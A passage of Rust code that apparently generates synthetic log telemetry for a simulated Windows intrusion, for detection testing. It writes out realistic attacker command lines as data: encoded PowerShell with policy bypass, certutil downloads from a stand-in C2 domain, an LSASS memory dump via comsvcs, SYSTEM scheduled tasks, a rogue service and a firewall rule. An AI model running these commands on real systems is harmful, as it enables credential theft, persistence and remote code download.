        tt + 800_000,
        step,
        &w3wp,
        &pool,
        CMD,
        &format!("cmd.exe /c powershell.exe -nop -ep bypass -enc {enc}"),
    );
    let ps = win::spawn(
        cx,
        r,
        web,
        tt + 1_000_000,
        step,
        &c,
        &pool,
        PS,
        &format!("powershell.exe  -nop -ep bypass -enc {enc}"),
    );
    let shell = format!("C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\16\\TEMPLATE\\LAYOUTS\\{}", p.shell_aspx);
    win::sysmon11(cx, web, tt + 2_500_000, step, &ps, &shell);
    tt += ms(r, 8_000, 20_000);
    iis_req(
        cx,
        r,
        tt,
        step,
        &op,
        "GET",
        &format!("/_layouts/15/{}", p.shell_aspx),
        "",
        "",
        200,
    );
    // ViewState payloads signed with the stolen keys.
    for _ in 0..r.range(2, 4) {
        tt += ms(r, 20_000, 90_000);
        let vs = viewstate(r, 900);
        iis_req(
            cx,
            r,
            tt,
            step,
            &op,
            "GET",
            "/_layouts/15/success.aspx",
            &format!("__VIEWSTATE={vs}&__VIEWSTATEGENERATOR={}", r.hex_upper(8)),
            "",
            200,
        );
    }
}

fn webshell_exec(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Exec);
    let w = cx.w;
    let web = w.web;
    let op = w.adv.operator_ip.clone();
    let w3wp = cx.hs[web].w3wp.clone().expect("w3wp");
    let pool = p.shell_who.clone();
    let stem = format!("/_layouts/15/{}", p.shell_aspx);
    for i in 0..r.range(3, 6) {
        iis_req(
            cx,
            r,
            t + i * ms(r, 5_000, 30_000),
            step,
            &op,
            "POST",
            &stem,
            "",
            "",
            200,
        );
    }
    let c = win::spawn(
        cx,
        r,
        web,
        t + 1_200_000,
        step,
        &w3wp,
        &pool,
        CMD,
        "cmd.exe /c whoami",
    );
    win::spawn(
        cx,
        r,
        web,
        t + 1_400_000,
        step,
        &c,
        &pool,
        "C:\\Windows\\System32\\whoami.exe",
        "whoami",
    );
    let mut ps = p.ps.clone();
    ps.started = ps.started.max(t + 2_000_000);
    let c2 = win::spawn(
        cx,
        r,
        web,
        ps.started - 300_000,
        step,
        &w3wp,
        &pool,
        CMD,
        &format!("cmd.exe /c {}", p.ps.cmd),
    );
    announce(cx, r, web, step, &ps, &c2, &meta(PS), &hashes(PS));
    ps_prelude(p, cx, r, step, ps.started + 900_000);
}

// --- 3. ingress tool transfer ------------------------------------------------------------

fn download(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Download);
    let h = p.h0;
    let w = cx.w;
    let hip = w.hosts[h].ip.clone();
    let c2 = w.adv.c2_domain.clone();
    let c2_ip = w.adv.c2_ip.clone();
    let mut tt = t;
    for (file, size) in [("fontdrvhost.exe", 487_648u64), ("config.ini", 2_714)] {
        let url = format!("https://{c2}{}/{file}", p.c2_path);
        let dest = format!("C:\\ProgramData\\{file}");
        let cu = win::spawn(
            cx,
            r,
            h,
            tt,
            step,
            &p.ps,
            &p.shell_who,
            "C:\\Windows\\System32\\certutil.exe",
            &format!("\"C:\\Windows\\system32\\certutil.exe\" -urlcache -split -f {url} {dest}"),
        );
        c2_lookup(p, cx, r, tt + 90_000, step, h, &cu, &c2, &c2_ip);
        let sport = zeek::ephemeral(r);
        win::sysmon3(
            cx,
            h,
            tt + 160_000,
            step,
            &cu,
            &hip,
            sport,
            &c2_ip,
            "",
            443,
            true,
        );
        zeek::https_to(
            cx,
            r,
            tt + 150_000,
            step,
            &hip,
            &c2_ip,
            &c2,
            443,
            Tls::Schannel,
            900_000 + size as i64 * 2,
            1_400,
            size + 5_200,
        );
        win::sysmon11(
            cx,
            h,
            tt + 1_300_000,
            step,
            &cu,
            &format!(
                "{}\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\{}",
                if p.entry == Entry::Phishing {
                    format!("C:\\Users\\{}", p.shell_who.name)
                } else {
                    "C:\\Windows\\System32\\config\\systemprofile".to_string()
                },
                r.hex_upper(32)
            ),
        );
        win::sysmon11(cx, h, tt + 1_400_000, step, &cu, &dest);
        tt += ms(r, 3_000, 9_000);
    }
    // The loader's shellcode over plain HTTP, with the old Chrome 40 user agent.
    let stage = w.adv.stage_domain.clone();
    let stage_ip = w.adv.stage_ip.clone();
    tt += ms(r, 20_000, 60_000);
    c2_lookup(p, cx, r, tt, step, h, &p.ps, &stage, &stage_ip);
    let sport = zeek::ephemeral(r);
    win::sysmon3(
        cx,
        h,
        tt + 80_000,
        step,
        &p.ps,
        &hip,
        sport,
        &stage_ip,
        "",
        80,
        true,
    );
    zeek::http(
        cx,
        r,
        tt + 80_000,
        step,
        &Http {
            client: &hip,
            server: &stage_ip,
            port: 80,
            method: "GET",
            host: &stage,
            uri: "/nzoMeFYgvjyXK3P",
            referrer: "",
            user_agent: UA_CHROME40,
            req_len: 0,
            resp_len: r.range(180_000, 260_000) as u64,
            status: 200,
            mime: "application/octet-stream",
            filename: "",
            duration: 2_400_000,
        },
    );
}

// --- 4. CDBLoader, persistence ------------------------------------------------------------

const FD_PIPES: &[&str] = &[
    "\\E340C955-15B6-4ec9-9522-1F526E6FBBF1",
    "\\BD5AE956-0CF5-44b5-8061-208F5D0DBBB2",
    "\\EAA0BF8D-CA6C-45eb-9751-6269C70813C9",
];

fn cdb(p: &Plan, cx: &mut Cx, r: &Rng, _t: i64) {
    let step = p.step(Kind::Cdb);
    let h = p.h0;
    let cm = meta(CDB_PATH);
    let ch = format!("SHA256={CDB_SHA256},IMPHASH={}", imphash(r));
    announce(cx, r, h, step, &p.cdb, &p.ps, &cm, &ch);
    let paint = &p.paint;
    announce(
        cx,
        r,
        h,
        step,
        paint,
        &p.cdb,
        &meta(&paint.image),
        &hashes(&paint.image),
    );
    let t1 = paint.started + ms(r, 300, 900);
    win::sysmon10(
        cx,
        r,
        h,
        t1,
        step,
        &p.cdb,
        paint,
        "0x1FFFFF",
        &win::call_trace(
            r,
            &["C:\\ProgramData\\dbgeng.dll", "C:\\ProgramData\\dbgeng.dll"],
        ),
    );
    win::sysmon8(cx, r, h, t1 + 40_000, step, &p.cdb, paint);
    let clr = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll";
    win::sysmon7(
        cx,
        h,
        t1 + 400_000,
        step,
        paint,
        clr,
        &Meta {
            version: "4.8.9290.0 built by: NET481REL1LAST_C",
            description: "Microsoft .NET Runtime Common Language Runtime - WorkStation",
            product: "Microsoft® .NET Framework",
            company: "Microsoft Corporation",
            original: "clr.dll",
        },
        true,
        "Microsoft Corporation",
    );
    win::sysmon7(cx, h, t1 + 900_000, step, paint, "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\0f7a6b2c3b1e2a3b4c5d6e7f8a9b0c1d\\System.Management.Automation.ni.dll", &Meta { version: "10.0.19041.1", description: "System.Management.Automation", product: "Microsoft (R) Windows (R) Operating System", company: "Microsoft Corporation", original: "System.Management.Automation.dll" }, true, "Microsoft Windows");
    for (i, pipe) in FD_PIPES.iter().enumerate() {
        win::sysmon17(
            cx,
            h,
            t1 + 2 * SEC + i as i64 * ms(r, 500, 4000),
            step,
            paint,
            pipe,
        );
    }
}

fn task(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Task);
    let h = p.h0;
    let st = win::spawn(cx, r, h, t, step, &p.ps, &p.shell_who, "C:\\Windows\\System32\\schtasks.exe", &format!("\"C:\\Windows\\system32\\schtasks.exe\" /create /tn \"{TASK}\" /tr \"{CDB_CMD}\" /sc MINUTE /mo 1 /RU SYSTEM /RL HIGHEST /F"));
    let _ = st;
    let xml = task_xml(
        TASK,
        &format!("{NETBIOS}\\{}", p.shell_who.name),
        CDB_PATH,
        "-cf C:\\ProgramData\\config.ini -o C:\\ProgramData\\fontdrvhost.exe",
        "PT1M",
        "S-1-5-18",
    );
    win::sec4698(cx, h, t + ms(r, 200, 900), step, &p.shell_who, TASK, &xml);
    let sched = cx.hs[h].svc_sched.clone();
    win::sysmon13(cx, h, t + ms(r, 300, 1000), step, &sched, &format!("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree{TASK}\\Index"), "DWORD (0x00000003)");
    win::sysmon11(
        cx,
        h,
        t + ms(r, 300, 1000),
        step,
        &sched,
        &format!("C:\\Windows\\System32\\Tasks{TASK}"),
    );
}

/// The task firing every minute.
struct TaskRuns<'p> {
    p: &'p Plan,
    r: Rng,
    next: i64,
}

impl Gen for TaskRuns<'_> {
    fn fire(&mut self, now: i64, cx: &mut Cx) -> Option<i64> {
        if now < self.next {
            return Some(self.next);
        }
        let p = self.p;
        let h = p.h0;
        let step = p.step(Kind::Task);
        let sched = cx.hs[h].svc_sched.clone();
        let system = cx.hs[h].system.clone();
        let m = meta(CDB_PATH);
        let hs = format!("SHA256={CDB_SHA256},IMPHASH=3E0B5B6B2C1A8F4D9E7C6B5A4D3C2B1A");
        win::spawn_ex(
            cx, &self.r, h, now, step, &sched, &system, CDB_PATH, CDB_CMD, &m, &hs,
        );
        self.next = now + MIN + self.r.range(-400_000, 400_000);
        Some(self.next)
    }
}

fn service(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Service);
    let h = p.h0;
    let exe = &p.svc_exe_h0;
    win::sysmon11(cx, h, t, step, &p.ps, exe);
    let sc = win::spawn(cx, r, h, t + ms(r, 2_000, 6_000), step, &p.ps, &p.shell_who, "C:\\Windows\\System32\\sc.exe", &format!("\"C:\\Windows\\system32\\sc.exe\" create {} binPath= \"{exe}\" start= auto DisplayName= \"Windows Temp Update\"", p.svc_name));
    let t2 = sc.started + ms(r, 100, 400);
    win::sys7045(
        cx,
        h,
        t2,
        step,
        &p.svc_name,
        exe,
        "auto start",
        "LocalSystem",
    );
    win::sec4697(cx, h, t2, step, &p.shell_who, &p.svc_name, exe, "2");
    let services = cx.hs[h].services.clone();
    win::sysmon13(
        cx,
        h,
        t2 + 1_000,
        step,
        &services,
        &format!(
            "HKLM\\System\\CurrentControlSet\\Services\\{}\\ImagePath",
            p.svc_name
        ),
        exe,
    );
    let start = win::spawn(
        cx,
        r,
        h,
        p.svc_h0.started - 2 * SEC,
        step,
        &p.ps,
        &p.shell_who,
        "C:\\Windows\\System32\\sc.exe",
        &format!("\"C:\\Windows\\system32\\sc.exe\" start {}", p.svc_name),
    );
    let _ = start;
    let hs = format!("SHA256={PATHLOADER_SHA256},IMPHASH={}", imphash(r));
    announce(cx, r, h, step, &p.svc_h0, &services, &no_meta(), &hs);
    win::sys7036(
        cx,
        h,
        p.svc_h0.started + 500_000,
        step,
        "Windows Temp Update",
        "running",
        &p.svc_name,
    );
}

fn firewall(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Firewall);
    let h = p.h0;
    let exe = &p.svc_exe_h0;
    win::spawn(cx, r, h, t, step, &p.ps, &p.shell_who, "C:\\Windows\\System32\\netsh.exe", &format!("\"C:\\Windows\\system32\\netsh.exe\" advfirewall firewall add rule name=\"{RULE}\" dir=out action=allow program=\"{exe}\" enable=yes profile=any"));
    let id = format!("{{{}}}", r.guid().to_uppercase());
    win::sec4946(cx, h, t + ms(r, 100, 500), step, &id, RULE);
    let mpssvc = cx.hs[h].svc_netsvcs.clone();
    win::sysmon13(cx, h, t + ms(r, 100, 500), step, &mpssvc, &format!("HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules\\{id}"), &format!("v2.31|Action=Allow|Active=TRUE|Dir=Out|App={exe}|Name={RULE}|"));
}

// --- 5. discovery --------------------------------------------------------------------------

fn discovery(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Discovery);
    let h = p.h0;
    let w = cx.w;
    let parent = match p.entry {
        Entry::Phishing => p.paint.clone(),
        Entry::Iis => cx.hs[h].w3wp.clone().expect("w3wp"),
    };
    let who = p.shell_who.clone();
    let shell = win::spawn(
        cx,
        r,
        h,
        t,
        step,
        &parent,
        &who,
        CMD,
        "C:\\Windows\\system32\\cmd.exe",
    );
    let cmds: Vec<(&str, String)> = vec![
        ("whoami.exe", "whoami /all".into()),
        ("net.exe", "net group \"domain admins\" /domain".into()),
        ("nltest.exe", format!("nltest /dclist:{DNS_DOMAIN}")),
        ("ipconfig.exe", "ipconfig /all".into()),
        ("systeminfo.exe", "systeminfo".into()),
        ("tasklist.exe", "tasklist /v".into()),
        ("quser.exe", "quser".into()),
        (
            "reg.exe",
            "reg query HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UUID".into(),
        ),
        ("net.exe", "net user /domain".into()),
    ];
    let mut tt = t + ms(r, 5_000, 20_000);
    let dc_ip = w.hosts[w.dc].ip.clone();
    let hip = w.hosts[h].ip.clone();
    for (exe, cmd) in cmds {
        let image = format!("C:\\Windows\\System32\\{exe}");
        let c = win::spawn(cx, r, h, tt, step, &shell, &who, &image, &cmd);
        if exe == "net.exe" {
            let inner = cmd.replacen("net ", "C:\\Windows\\system32\\net1  ", 1);
            win::spawn(
                cx,
                r,
                h,
                tt + 20_000,
                step,
                &c,
                &who,
                "C:\\Windows\\System32\\net1.exe",
                &inner,
            );
            zeek::conn(
                cx,
                r,
                tt + 60_000,
                step,
                &hip,
                &dc_ip,
                445,
                "smb,krb,gssapi,dce_rpc",
                ms(r, 300, 2_000),
                r.range(3_000, 9_000) as u64,
                r.range(4_000, 30_000) as u64,
            );
        }
        if exe == "nltest.exe" {
            zeek::conn(
                cx,
                r,
                tt + 40_000,
                step,
                &hip,
                &dc_ip,
                389,
                "ldap",
                ms(r, 100, 900),
                r.range(400, 2_000) as u64,
                r.range(600, 4_000) as u64,
            );
        }
        tt += ms(r, 8_000, 40_000);
    }
}

// --- 6. credential access --------------------------------------------------------------------

fn cred(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Cred);
    let h = p.h0;
    let parent = match p.entry {
        Entry::Phishing => p.paint.clone(),
        Entry::Iis => cx.hs[h].w3wp.clone().expect("w3wp"),
    };
    let who = p.shell_who.clone();
    let lsass = cx.hs[h].lsass.clone();
    let shell = win::spawn(cx, r, h, t, step, &parent, &who, CMD, &format!("C:\\Windows\\system32\\cmd.exe /c rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\ProgramData\\WER\\{}.dmp full", lsass.pid, r.hex(8)));
    let dump = shell
        .cmd
        .rsplit(' ')
        .nth(1)
        .unwrap_or("C:\\ProgramData\\WER\\x.dmp")
        .to_string();
    let rd = win::spawn(
        cx,
        r,
        h,
        t + ms(r, 100, 400),
        step,
        &shell,
        &who,
        "C:\\Windows\\System32\\rundll32.exe",
        &format!(
            "rundll32.exe  C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full",
            lsass.pid
        ),
    );
    let t1 = rd.started + ms(r, 200, 600);
    let trace = win::call_trace(
        r,
        &[
            "C:\\Windows\\System32\\dbgcore.DLL",
            "C:\\Windows\\System32\\dbgcore.DLL",
            "C:\\Windows\\System32\\comsvcs.dll",
            "C:\\Windows\\System32\\comsvcs.dll",
            "C:\\Windows\\System32\\rundll32.exe",
        ],
    );
    win::sysmon10(cx, r, h, t1, step, &rd, &lsass, "0x1FFFFF", &trace);
    win::sysmon11(cx, h, t1 + ms(r, 800, 3_000), step, &rd, &dump);
    // LalsDumper: a custom security package loaded into lsass.
    let t2 = t1 + ms(r, 60_000, 240_000);
    let lals_m = no_meta();
    let lals_h = format!("SHA256={},IMPHASH={}", r.hex_upper(64), imphash(r));
    let lals = win::spawn_ex(
        cx,
        r,
        h,
        t2,
        step,
        &shell,
        &who,
        "C:\\ProgramData\\lals.exe",
        "C:\\ProgramData\\lals.exe",
        &lals_m,
        &lals_h,
    );
    win::sysmon11(
        cx,
        h,
        t2 + ms(r, 100, 500),
        step,
        &lals,
        "C:\\ProgramData\\nfdp.dll",
    );
    win::sysmon13(
        cx,
        h,
        t2 + ms(r, 500, 900),
        step,
        &lsass,
        "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Security Packages",
        "kerberos msv1_0 schannel wdigest tspkg pku2u nfdp",
    );
    win::sysmon7(
        cx,
        h,
        t2 + ms(r, 1_000, 2_000),
        step,
        &lsass,
        "C:\\ProgramData\\nfdp.dll",
        &no_meta(),
        false,
        "",
    );
    win::sysmon11(
        cx,
        h,
        t2 + ms(r, 2_000, 4_000),
        step,
        &lsass,
        "C:\\ProgramData\\rtu.txt",
    );
}

// --- 7. lateral movement ----------------------------------------------------------------------

fn admin_who(p: &Plan, w: &World, r: &Rng, h: usize, t: i64, session: u32) -> Who {
    let a = &w.users[p.admin];
    Who::domain_user(
        &w.hosts[h],
        r,
        t,
        a.admin.as_deref().unwrap_or(&a.sam),
        a.admin_sid.as_deref().unwrap_or(&a.sid),
        session,
        "High",
    )
}

/// The process on h0 that carries the intruder's network traffic.
fn h0_net_proc(p: &Plan) -> &Proc {
    &p.paint
}

fn rdp(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Rdp);
    let w = cx.w;
    let fs = w.fs;
    let h0 = p.h0;
    let src_ip = w.hosts[h0].ip.clone();
    let src_name = w.hosts[h0].name.clone();
    let fs_ip = w.hosts[fs].ip.clone();
    let sport = zeek::ephemeral(r);
    win::sysmon3(
        cx,
        h0,
        t,
        step,
        h0_net_proc(p),
        &src_ip,
        sport,
        &fs_ip,
        &w.hosts[fs].fqdn.clone(),
        3389,
        true,
    );
    let dur = r.range(25 * MIN, 50 * MIN);
    zeek::conn(
        cx,
        r,
        t,
        step,
        &src_ip,
        &fs_ip,
        3389,
        "ssl",
        dur,
        r.lognormal(3_000_000.0, 0.4) as u64,
        r.lognormal(40_000_000.0, 0.4) as u64,
    );
    let who = admin_who(p, w, r, fs, t, 2);
    let t1 = t + ms(r, 1_000, 3_000);
    win::sec4624(
        cx,
        r,
        fs,
        t1,
        step,
        &Logon {
            who: &who,
            logon_type: 10,
            workstation: &src_name,
            ip: &src_ip,
            port: "0",
            package: "Negotiate",
            elevated: true,
        },
    );
    win::sec4672(cx, fs, t1 + 1, step, &who);
    win::sec4778(
        cx,
        fs,
        t1 + 1_500,
        step,
        &who,
        &format!("RDP-Tcp#{}", r.range(2, 12)),
        &src_name,
        &src_ip,
    );
    let termsvc = cx.hs[fs].svc_termsvc.clone();
    win::spawn(
        cx,
        r,
        fs,
        t1 + 4_000,
        step,
        &termsvc,
        &who,
        "C:\\Windows\\System32\\rdpclip.exe",
        "rdpclip",
    );
    let explorer = Proc::new(
        &w.hosts[fs],
        r,
        t1 - 2 * HOUR,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        "C:\\Windows\\system32\\",
        &who,
    );
    let c = win::spawn(
        cx,
        r,
        fs,
        t1 + ms(r, 60_000, 180_000),
        step,
        &explorer,
        &who,
        CMD,
        "\"C:\\Windows\\system32\\cmd.exe\" ",
    );
    win::spawn(
        cx,
        r,
        fs,
        c.started + ms(r, 5_000, 20_000),
        step,
        &c,
        &who,
        "C:\\Windows\\System32\\net.exe",
        "net share",
    );
    win::spawn(
        cx,
        r,
        fs,
        c.started + ms(r, 25_000, 60_000),
        step,
        &c,
        &who,
        "C:\\Windows\\System32\\quser.exe",
        "quser",
    );
}

fn smb(p: &Plan, cx: &mut Cx, r: &Rng, t: i64, target: usize) {
    let step = p.step(Kind::Smb);
    let w = cx.w;
    let h0 = p.h0;
    let src_ip = w.hosts[h0].ip.clone();
    let src_name = w.hosts[h0].name.clone();
    let tip = w.hosts[target].ip.clone();
    let (proc, exe, ph) = if target == w.dc {
        (p.svc_dc.clone(), p.svc_exe_dc.clone(), PATHLOADER2_SHA256)
    } else {
        (p.svc_fs.clone(), p.svc_exe_fs.clone(), PATHLOADER_SHA256)
    };
    let file = exe.rsplit('\\').next().unwrap_or("x.exe").to_string();
    let sport = zeek::ephemeral(r);
    win::sysmon3(
        cx,
        h0,
        t,
        step,
        h0_net_proc(p),
        &src_ip,
        sport,
        &tip,
        &w.hosts[target].fqdn.clone(),
        445,
        true,
    );
    zeek::conn(
        cx,
        r,
        t,
        step,
        &src_ip,
        &tip,
        445,
        "smb,ntlm,gssapi,dce_rpc",
        ms(r, 8_000, 30_000),
        r.range(175_000, 190_000) as u64,
        r.range(9_000, 20_000) as u64,
    );
    let who = admin_who(p, w, r, target, t, 0);
    let port = sport.to_string();
    let t1 = t + ms(r, 50, 300);
    win::sec4624(
        cx,
        r,
        target,
        t1,
        step,
        &Logon {
            who: &who,
            logon_type: 3,
            workstation: &src_name,
            ip: &src_ip,
            port: &port,
            package: "NTLM",
            elevated: true,
        },
    );
    win::sec4672(cx, target, t1 + 1, step, &who);
    win::sec5140(
        cx,
        target,
        t1 + 300,
        step,
        &who,
        &src_ip,
        &port,
        "\\\\*\\ADMIN$",
        "\\??\\C:\\Windows",
    );
    win::sec5145(
        cx,
        target,
        t1 + 400,
        step,
        &who,
        &src_ip,
        &port,
        "\\\\*\\ADMIN$",
        "\\??\\C:\\Windows",
        &file,
        true,
    );
    let sysproc = Proc {
        guid: format!(
            "{{{}-0000-0000-eb03-{}}}",
            w.hosts[target].guid_prefix, w.hosts[target].boot_tail
        ),
        pid: 4,
        image: "System".into(),
        cmd: String::new(),
        cwd: String::new(),
        who: cx.hs[target].system.clone(),
        started: t - DAY,
    };
    win::sysmon11(cx, target, t1 + 900, step, &sysproc, &exe);
    let svc_name = format!("{}{}", &file[..1].to_uppercase(), &file[1..6]);
    let t2 = t1 + ms(r, 2_000, 5_000);
    win::sys7045(
        cx,
        target,
        t2,
        step,
        &svc_name,
        &exe,
        "demand start",
        "LocalSystem",
    );
    win::sec4697(cx, target, t2, step, &who, &svc_name, &exe, "3");
    let services = cx.hs[target].services.clone();
    let hs = format!("SHA256={ph},IMPHASH={}", imphash(r));
    announce(cx, r, target, step, &proc, &services, &no_meta(), &hs);
    win::sys7036(
        cx,
        target,
        proc.started + 600_000,
        step,
        &svc_name,
        "running",
        &svc_name,
    );
}

fn winrm(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::WinRm);
    let w = cx.w;
    let h0 = p.h0;
    let tgt = p.winrm_target;
    let src_ip = w.hosts[h0].ip.clone();
    let tip = w.hosts[tgt].ip.clone();
    let tname = w.hosts[tgt].name.clone();
    let parent = if p.entry == Entry::Phishing {
        p.paint.clone()
    } else {
        cx.hs[h0].w3wp.clone().expect("w3wp")
    };
    let winrs = win::spawn(cx, r, h0, t, step, &parent, &p.shell_who, "C:\\Windows\\System32\\winrs.exe", &format!("winrs -r:http://{tname}:5985 cmd /c \"hostname & whoami /groups & dir C:\\inetpub\\wwwroot\""));
    let sport = zeek::ephemeral(r);
    win::sysmon3(
        cx,
        h0,
        t + 300_000,
        step,
        &winrs,
        &src_ip,
        sport,
        &tip,
        &w.hosts[tgt].fqdn.clone(),
        5985,
        true,
    );
    zeek::http(
        cx,
        r,
        t + 300_000,
        step,
        &Http {
            client: &src_ip,
            server: &tip,
            port: 5985,
            method: "POST",
            host: &format!("{tname}:5985"),
            uri: "/wsman",
            referrer: "",
            user_agent: "Microsoft WinRM Client",
            req_len: r.range(2_000, 9_000) as u64,
            resp_len: r.range(1_000, 20_000) as u64,
            status: 200,
            mime: "application/soap+xml",
            filename: "",
            duration: ms(r, 2_000, 20_000),
        },
    );
    let who = admin_who(p, w, r, tgt, t, 0);
    let t1 = t + ms(r, 400, 900);
    win::sec4624(
        cx,
        r,
        tgt,
        t1,
        step,
        &Logon {
            who: &who,
            logon_type: 3,
            workstation: "-",
            ip: &src_ip,
            port: &sport.to_string(),
            package: "Kerberos",
            elevated: true,
        },
    );
    win::sec4672(cx, tgt, t1 + 1, step, &who);
    let dcom = cx.hs[tgt].svc_dcom.clone();
    let host = win::spawn(
        cx,
        r,
        tgt,
        t1 + 500,
        step,
        &dcom,
        &who,
        "C:\\Windows\\System32\\winrshost.exe",
        "C:\\Windows\\system32\\WinrsHost.exe -Embedding",
    );
    let c = win::spawn(cx, r, tgt, t1 + 900, step, &host, &who, CMD, "\"C:\\Windows\\system32\\cmd.exe\" /c \"hostname & whoami /groups & dir C:\\inetpub\\wwwroot\"");
    win::spawn(
        cx,
        r,
        tgt,
        t1 + 1_200,
        step,
        &c,
        &who,
        "C:\\Windows\\System32\\whoami.exe",
        "whoami  /groups",
    );
}

// --- 8. IIS relay ---------------------------------------------------------------------------

fn relay_setup(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Relay);
    let w = cx.w;
    let web = w.web;
    let dll = &p.relay_dll;
    let who = admin_who(p, w, r, web, t, 0);
    let dcom = cx.hs[web].svc_dcom.clone();
    let host = win::spawn(
        cx,
        r,
        web,
        t,
        step,
        &dcom,
        &who,
        "C:\\Windows\\System32\\winrshost.exe",
        "C:\\Windows\\system32\\WinrsHost.exe -Embedding",
    );
    let c = win::spawn(cx, r, web, t + 300, step, &host, &who, CMD, &format!("\"C:\\Windows\\system32\\cmd.exe\" /c certutil -urlcache -split -f https://{}{}/iis.dat {dll} & C:\\Windows\\System32\\inetsrv\\appcmd.exe install module /name:HttpModuleCore /image:{dll}", w.adv.c2_domain, p.c2_path));
    let cu = win::spawn(
        cx,
        r,
        web,
        t + 600,
        step,
        &c,
        &who,
        "C:\\Windows\\System32\\certutil.exe",
        &format!(
            "certutil  -urlcache -split -f https://{}{}/iis.dat {dll}",
            w.adv.c2_domain, p.c2_path
        ),
    );
    let wip = w.hosts[web].ip.clone();
    let c2 = w.adv.c2_domain.clone();
    let c2_ip = w.adv.c2_ip.clone();
    c2_lookup(p, cx, r, t + 700_000, step, web, &cu, &c2, &c2_ip);
    zeek::https_to(
        cx,
        r,
        t + 800_000,
        step,
        &wip,
        &c2_ip,
        &c2,
        443,
        Tls::Schannel,
        1_500_000,
        1_300,
        214_000,
    );
    win::sysmon11(cx, web, t + 2_500_000, step, &cu, dll);
    let ac = win::spawn(cx, r, web, t + 4 * SEC, step, &c, &who, "C:\\Windows\\System32\\inetsrv\\appcmd.exe", &format!("C:\\Windows\\System32\\inetsrv\\appcmd.exe  install module /name:HttpModuleCore /image:{dll}"));
    win::sysmon11(
        cx,
        web,
        t + 5 * SEC,
        step,
        &ac,
        "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    );
    let w3wp = cx.hs[web].w3wp.clone().expect("w3wp");
    win::sysmon7(
        cx,
        web,
        t + 9 * SEC,
        step,
        &w3wp,
        dll,
        &no_meta(),
        false,
        "",
    );
    // The relay's long-lived session out to the adversary.
    let t2 = t + 40 * SEC;
    let relay_ip = w.adv.relay_ip.clone();
    let sport = zeek::ephemeral(r);
    win::sysmon3(
        cx, web, t2, step, &w3wp, &wip, sport, &relay_ip, "", 443, true,
    );
    let dur = (w.end - t2 - 10 * MIN).max(HOUR);
    zeek::https_to(
        cx,
        r,
        t2,
        step,
        &wip,
        &relay_ip,
        "www.microsoft.com",
        443,
        Tls::Implant,
        dur,
        r.range(40_000_000, 90_000_000) as u64,
        r.range(20_000_000, 60_000_000) as u64,
    );
}

/// The peer's traffic through the relay: POSTs to a URL no file answers.
struct Relay<'p> {
    p: &'p Plan,
    r: Rng,
    next: i64,
    n: u64,
}

impl Gen for Relay<'_> {
    fn fire(&mut self, now: i64, cx: &mut Cx) -> Option<i64> {
        if now < self.next {
            return Some(self.next);
        }
        let p = self.p;
        let r = &mut self.r;
        let step = p.step(Kind::Relay);
        let w = cx.w;
        let web = w.web;
        let peer = p.peer;
        let pip = w.hosts[peer].ip.clone();
        let wip = w.hosts[web].ip.clone();
        let uri = format!("/_layouts/15/ipcdata/{}", r.hex(8));
        let ua = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)";
        iis::request(
            cx,
            now,
            step,
            &iis::Req {
                method: "POST",
                stem: &uri,
                query: "",
                port: 80,
                user: "",
                client: &pip,
                user_agent: ua,
                referer: "",
                status: 200,
                substatus: 0,
                win32: 0,
                taken_ms: r.range(20, 3000) as u32,
            },
        );
        zeek::http(
            cx,
            r,
            now,
            step,
            &Http {
                client: &pip,
                server: &wip,
                port: 80,
                method: "POST",
                host: &w.hosts[web].fqdn.clone(),
                uri: &uri,
                referrer: "",
                user_agent: ua,
                req_len: r.range(200, 6_000) as u64,
                resp_len: r.range(100, 30_000) as u64,
                status: 200,
                mime: "application/octet-stream",
                filename: "",
                duration: ms(r, 50, 3_000),
            },
        );
        if self.n.is_multiple_of(6) {
            let src = if p.entry == Entry::Phishing {
                p.paint.clone()
            } else {
                p.svc_fs.clone()
            };
            let sport = zeek::ephemeral(r);
            win::sysmon3(
                cx,
                peer,
                now,
                step,
                &src,
                &pip,
                sport,
                &wip,
                &w.hosts[web].fqdn.clone(),
                80,
                true,
            );
        }
        self.n += 1;
        self.next = now + r.range(3 * MIN, 12 * MIN);
        Some(self.next)
    }
}

// --- 9. C2 ---------------------------------------------------------------------------------------

struct Beacon<'p> {
    p: &'p Plan,
    r: Rng,
    /// Host index (usize::MAX: the DC).
    h: usize,
    proc: Proc,
    next: i64,
    n: u64,
}

impl Gen for Beacon<'_> {
    fn fire(&mut self, now: i64, cx: &mut Cx) -> Option<i64> {
        if now < self.next {
            return Some(self.next);
        }
        let p = self.p;
        let r = &mut self.r;
        let step = p.step(Kind::HttpsC2);
        let w = cx.w;
        let h = if self.h == usize::MAX { w.dc } else { self.h };
        let hip = w.hosts[h].ip.clone();
        let c2 = w.adv.c2_domain.clone();
        let c2_ip = w.adv.c2_ip.clone();
        if self.n.is_multiple_of(12) {
            c2_lookup(p, cx, r, now, step, h, &self.proc, &c2, &c2_ip);
        }
